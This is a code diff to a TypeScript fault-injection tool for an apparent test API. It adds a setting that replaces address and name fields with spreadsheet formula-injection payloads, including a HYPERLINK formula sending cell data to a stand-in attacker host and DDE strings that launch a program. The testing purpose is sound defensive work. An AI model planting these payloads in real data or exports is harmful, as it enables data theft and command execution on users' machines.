@@ -24,6 +24,8 @@ export interface FaultSettings {
   schemaBreakRate: number;
   /** Chance of an answer that never comes (until the client gives up or the sandbox closes). */
   hangRate: number;
+  /** Text values of the records (name, address) are spreadsheet formulas, as a hostile service could send. */
+  formulaValues: boolean;
   /** Faults only touch paths starting with this; null means every API path. */
   pathPrefix: string | null;
 }
@@ -36,6 +38,7 @@ export const NO_FAULTS: FaultSettings = {
   malformedJsonRate: 0,
   schemaBreakRate: 0,
   hangRate: 0,
+  formulaValues: false,
   pathPrefix: null,
 };
 
@@ -51,6 +54,7 @@ export const faultSettingsPatchSchema = z
     malformedJsonRate: rate,
     schemaBreakRate: rate,
     hangRate: rate,
+    formulaValues: z.boolean(),
     pathPrefix: z.string().startsWith('/').nullable(),
   })
   .partial();
@@ -80,6 +84,24 @@ function breakSchema(body: unknown): unknown {
   const target = entries.find(([, value]) => typeof value !== 'object' || value === null || Array.isArray(value));
   if (!target) return [body];
   return Object.fromEntries(entries.map(([key, value]) => [key, key === target[0] ? { inesperado: value } : value]));
+}
+
+/** What `formulaValues` puts in each text field of that name, wherever it is in a body. */
+export const FORMULA_VALUES: Readonly<Record<string, string>> = {
+  nome: '=HYPERLINK("https://atacante.example/?d="&A2;"Clique aqui")',
+  logradouro: "-2+3+cmd|' /C calc'!A0",
+  complemento: '\t=1+1',
+  bairro: "@SUM(1+1)*cmd|' /C calc'!A0",
+  cidade: "+55+cmd|' /C calc'!A0",
+};
+
+/** The same JSON with every text field named in FORMULA_VALUES replaced by its formula. */
+function withFormulas(body: unknown): unknown {
+  if (Array.isArray(body)) return body.map(withFormulas);
+  if (typeof body !== 'object' || body === null) return body;
+  return Object.fromEntries(
+    Object.entries(body).map(([key, value]) => [key, typeof value === 'string' && Object.hasOwn(FORMULA_VALUES, key) ? FORMULA_VALUES[key] : withFormulas(value)]),
+  );
 }
 
 export class FaultInjector {
@@ -138,6 +160,8 @@ export class FaultInjector {
         });
       } else if (broken) {
         c.res = c.json(breakSchema(await c.res.json()), c.res.status as ContentfulStatusCode);
+      } else if (settings.formulaValues) {
+        c.res = c.json(withFormulas(await c.res.json()), c.res.status as ContentfulStatusCode);
       }
     };
   }
